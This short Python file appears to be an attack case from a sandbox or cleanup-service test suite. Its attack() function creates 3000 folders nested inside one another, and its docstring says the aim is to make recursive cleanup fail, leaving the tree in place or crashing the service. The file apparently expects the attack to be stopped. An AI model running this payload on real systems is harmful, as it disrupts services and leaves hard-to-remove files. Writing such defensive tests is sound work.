"""Leaves folders nested thousands deep, which whoever clears them away must climb.

Clearing by recursion breaks off, and the folder stays for ever, or the service fails.
"""

import os

EXPECT = "stopped"
BARE = "stopped"


def attack(target):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
